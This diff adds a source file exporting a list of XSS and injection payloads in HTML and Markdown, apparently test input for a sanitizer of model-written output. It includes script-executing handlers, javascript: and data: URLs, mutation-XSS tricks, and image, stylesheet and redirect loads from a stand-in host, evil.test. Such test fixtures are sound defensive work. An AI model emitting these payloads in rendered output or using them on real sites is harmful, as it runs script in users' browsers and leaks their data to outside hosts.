@@ -1,0 +1,25 @@
+// SPDX-License-Identifier: Apache-2.0
+// Ways to run a script or to fetch something, in Markdown and in HTML that a model may write.
+export const PAYLOADS = [
+	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
+	"<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
+	"<embed src=//evil.test>", "<link rel=stylesheet href=//evil.test/x.css>", "<style>@import '//evil.test'</style>",
+	"<base href=//evil.test>", "<meta http-equiv=refresh content='0;url=//evil.test'>", "<form action=//evil.test><input name=a>",
+	"<a href=javascript:alert(1)>x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>", "<a href=' javascript:alert(1)'>x</a>",
+	"<a href=vbscript:x>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href=x onclick=alert(1)>x</a>",
+	"<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=//evil.test autoplay>", "<body onload=alert(1)>",
+	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+	"<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><img src=x onerror=alert(1)></template>",
+	"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<xmp><img src=x onerror=alert(1)></xmp>",
+	"<input autofocus onfocus=alert(1)>", "<select><option></select><img src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
+	"<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<div style='background:url(//evil.test)'>x</div>",
+	"<p id=app class=x>clobber</p>", "<a name=body>x</a>", "<div data-x=1 onpointerenter=alert(1)>", "<button formaction=javascript:alert(1)>x",
+	"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))", "[x](java\nscript:alert(1))", "[x](<javascript:alert(1)>)",
+	"[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:msgbox(1))", "[x](file:///etc/passwd)", "[x](//evil.test)", "[x](/api/v1/session)",
+	"![x](https://evil.test/pixel.png)", "![x](//evil.test/p)", "![x](data:image/svg+xml,<svg/onload=alert(1)>)", "![x][r]\n\n[r]: https://evil.test/a.png",
+	"<javascript:alert(1)>", "<https://evil.test/\"onmouseover=alert(1)>", "[x](https://ok.test \"onclick=alert(1)\")",
+	"[a]: javascript:alert(1)\n\n[a]", "`<img src=x onerror=alert(1)>`", "```html\n<script>alert(1)</script>\n```", "```x\" onload=alert(1)\ncode\n```",
+	"| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |", "# <img src=x onerror=alert(1)>", "> <script>alert(1)</script>",
+	"- <svg/onload=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "\u202Etpircs<script>alert(1)</script>", "<scr\0ipt>alert(1)</scr\0ipt>",
+	"<a href=\"https://ok.test\" style=\"position:fixed;inset:0\">x</a>", "<use href='data:image/svg+xml,x#x'>", "<x-custom onclick=alert(1)>",
+];
